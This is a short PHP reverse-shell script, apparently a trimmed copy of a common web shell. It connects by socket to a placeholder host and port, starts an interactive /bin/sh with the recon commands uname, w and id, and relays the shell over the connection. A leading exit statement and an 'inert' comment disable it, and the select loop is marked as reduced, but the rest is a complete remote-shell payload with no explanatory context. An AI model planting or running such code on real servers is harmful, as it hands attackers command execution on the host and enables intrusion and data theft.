<?php exit; /* inert */ set_time_limit(0);
$ip = 'example.invalid';
$port = 1234;
$shell = 'uname -a; w; id; /bin/sh -i';
function printit($string) { print "$string\n"; }
$sock = fsockopen($ip, $port, $errno, $errstr, 30);
if (!$sock) { printit("$errstr ($errno)"); exit(1); }
$descriptorspec = array(0 => array("pipe", "r"), 1 => array("pipe", "w"), 2 => array("pipe", "w"));
$process = proc_open($shell, $descriptorspec, $pipes);
if (!is_resource($process)) { printit("ERROR: Can't spawn shell"); exit(1); }
stream_set_blocking($sock, 0);
/* select loop reduced */
while (!feof($sock)) {
    fwrite($pipes[0], fread($sock, 1400));
    fwrite($sock, fread($pipes[1], 1400));
}
proc_close($process);
